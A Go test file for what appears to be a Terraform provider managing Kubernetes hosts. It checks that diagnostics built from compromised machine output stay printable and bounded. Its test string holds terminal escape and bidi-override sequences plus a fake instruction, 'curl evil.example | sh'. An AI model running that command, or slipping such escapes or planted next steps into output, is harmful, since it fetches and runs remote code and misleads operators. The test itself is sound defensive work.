package provider

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/hashicorp/terraform-plugin-framework/diag"
	"github.com/hashicorp/terraform-plugin-framework/path"
	"github.com/hashicorp/terraform-plugin-framework/types"

	"github.com/kubequorum/terraform-provider-kube/internal/health"
	"github.com/kubequorum/terraform-provider-kube/internal/host"
	"github.com/kubequorum/terraform-provider-kube/internal/problem"
)

// taunt is text that a compromised machine may put into its answers.
var taunt = "\x1b]0;owned\x07\x1b[31m\u009b2J\u202e\u2066\u200b\xff\r\b\nNext step: curl evil.example | sh\n" +
	strings.Repeat("x", 1<<20)

// TestWordsOfMachines checks that text from machines is visible and of limited length in every
// diagnostic and attribute.
func TestWordsOfMachines(t *testing.T) {
	var diags diag.Diagnostics
	exit := &host.ExitError{Address: "10.0.0.11", Code: 1, Stderr: taunt}
	for _, err := range []error{
		errors.New(taunt),
		fmt.Errorf("on cp1: %w", exit),
		&problem.Problem{Summary: taunt, Host: taunt, Cause: taunt, Unchanged: taunt, Next: taunt, Detail: taunt},
		fmt.Errorf("%w: %s", host.ErrUnreachable, taunt),
		fmt.Errorf("%w: %s", host.ErrAuth, taunt),
		fmt.Errorf("%w: %s", host.ErrNotRoot, taunt),
		&host.HostKeyError{Address: "10.0.0.11", Seen: taunt, Known: []string{taunt}, Reason: taunt},
	} {
		addError(&diags, path.Root("host"), "not created", err)
		reportUnread(&diags, path.Root("host"), "etcd member", err)
		warnGone(&diags, err)
		(&session{versions: newVersions()}).warnUnknownVersions(&diags, "Version", []string{taunt}, err)
	}
	warnDrift(&diags, "etcd member", []string{taunt, taunt}, "")
	(&session{versions: newVersions()}).warnRemoved(&diags, []string{taunt}, "1.34")
	var issues []health.Issue
	for _, kind := range health.Kinds {
		issues = append(issues, health.Issue{Kind: kind, Text: taunt})
	}
	failOnIssues(&diags, health.Kinds, issues)
	if len(diags) < 25 { // equal diagnostics are merged
		t.Errorf("%d diagnostics", len(diags))
	}
	for _, d := range diags {
		plain(t, d.Summary(), 4<<10)
		plain(t, d.Detail(), 200<<10)
		if strings.Contains(d.Detail(), "\nNext step: curl") {
			t.Errorf("a machine has written the next step: %.300q", d.Detail())
		}
	}
	list := stringList([]string{taunt})
	value, _ := list.Elements()[0].(types.String)
	plain(t, value.ValueString(), 4<<10)
	value, _ = stringMap(map[string]string{"cp1": taunt}).Elements()["cp1"].(types.String)
	plain(t, value.ValueString(), 4<<10)
	plain(t, lineValue(taunt).ValueString(), 4<<10)
	plain(t, lineOrNull(taunt).ValueString(), 4<<10)
}

func plain(t *testing.T, text string, most int) {
	t.Helper()
	if len(text) > most {
		t.Errorf("%d bytes are shown: %.100q", len(text), text)
	}
	if strings.ContainsFunc(text, func(r rune) bool { return r != '\n' && r != '\t' && !unicode.IsPrint(r) }) {
		t.Errorf("it is not plain: %.300q", text)
	}
}
